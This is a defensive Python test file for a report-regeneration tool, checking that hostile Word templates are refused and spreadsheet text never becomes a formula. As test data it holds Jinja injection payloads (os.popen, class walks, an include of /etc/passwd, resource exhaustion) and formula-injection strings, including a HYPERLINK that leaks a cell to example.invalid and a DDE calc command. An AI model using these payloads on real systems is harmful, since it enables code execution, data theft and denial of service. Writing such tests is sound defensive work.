"""Hostile input: an office's template runs no code, cell text never becomes an Excel formula."""

from __future__ import annotations

import openpyxl
import pytest
from docx import Document

from conftest import run_cli
from core.check import check_file, read_report
from core.regenerate import TemplateError, regenerate
from core.template import DEFAULT_TEMPLATE
from core.values import parse_value
from core.xlsx import text_cell, write_workbook

HOSTILE_TEMPLATES = {
    "popen": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "class walk": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "item walk": "{{ c['__class__'] }}",
    "hidden in a branch": "{% if false %}{{ title.__class__ }}{% endif %}",
    "format walk": "{{ '{0.__class__}'.format(title) }}",
    "power": "{{ 9 ** 9 ** 9 }}",
    "repeat": "{{ 'x' * 1000000000 }}",
    "endless loop": "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
    "include": "{% include '/etc/passwd' %}",
}


def _template(tmp_path, text: str):
    bad = tmp_path / "外单位模板.docx"
    doc = Document(str(DEFAULT_TEMPLATE))
    doc.add_paragraph(text)
    doc.save(str(bad))
    return bad


@pytest.mark.parametrize("name", list(HOSTILE_TEMPLATES))
def test_hostile_template_is_refused(make_docx, tmp_path, name):
    draft, _ = make_docx()
    out = tmp_path / "o.docx"
    with pytest.raises(TemplateError) as caught:
        regenerate(read_report(draft), out, template=_template(tmp_path, HOSTILE_TEMPLATES[name]))
    assert "模板" in str(caught.value)
    assert not out.exists()
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_hostile_template_on_the_command_line_runs_nothing(make_docx, tmp_path):
    draft, _ = make_docx()
    marker = tmp_path / "ran"
    template = _template(tmp_path, "{{ cycler.__init__.__globals__.os.popen('touch " + str(marker) + "; id').read() }}")
    out = tmp_path / "o.docx"
    proc = run_cli("fix", draft, "--out", out, "--template", template)
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert "不允许" in proc.stderr and "Traceback" not in proc.stderr
    assert "uid=" not in proc.stdout + proc.stderr
    assert not marker.exists() and not out.exists()


def test_plain_office_template_still_renders(make_docx, tmp_path):
    draft, _ = make_docx()
    template = _template(
        tmp_path, "{{ agency }}（{{ title | length }} 字）{% for t in preamble %}{{ loop.index }}{% endfor %}"
    )
    out = tmp_path / "o.docx"
    regenerate(read_report(draft), out, template=template)
    assert check_file(out).ok


HOSTILE_TEXT = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"点此")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "含\x1b转义\x07字符",
]


def test_text_cell_is_never_a_formula():
    for text in HOSTILE_TEXT:
        safe = text_cell(text)
        assert not safe.startswith(("=", "+", "-", "@", "\t", "\r")), safe
        assert "\x1b" not in safe and "\x07" not in safe
    assert text_cell("-") == "-" and text_cell("——") == "——"  # a draft's dash for nothing stays
    assert text_cell(12) == 12 and text_cell(None) is None
    assert len(text_cell("字" * 40_000)) <= 32_767


def test_workbook_of_hostile_cells_names_and_agency(make_docx, tmp_path):
    raw = {
        "requests.new.natural": HOSTILE_TEXT[0],
        "requests.new.commercial": HOSTILE_TEXT[1],
        "proactive.penalty.decisions": "@SUM(1)",
    }
    draft, _ = make_docx(raw=raw, name="=1+1.docx", agency="=cmd|' /C calc'!A0某局")
    other, _ = make_docx(name="@other.docx")
    results = [check_file(draft), check_file(other)]
    # a DOCX cannot hold an ESC, a web page or text export can: put one in as its reader would
    results[0].report.cells["appeals.review.total"].value = parse_value(HOSTILE_TEXT[6])
    out = tmp_path / "结果.xlsx"
    write_workbook(results, out)  # an ESC in one cell must not lose the workbook
    wb = openpyxl.load_workbook(out)
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    texts.append(c.value)
                    assert not c.value.startswith(("=", "+", "@")), (ws.title, c.coordinate, c.value)
                    assert "\x1b" not in c.value
    joined = "\n".join(texts)
    assert "'=1+1.docx" in joined and "'@other.docx" in joined
    assert '\'=HYPERLINK("http://example.invalid/?leak="&A1,"点此")' in joined
    assert "含转义字符" in joined
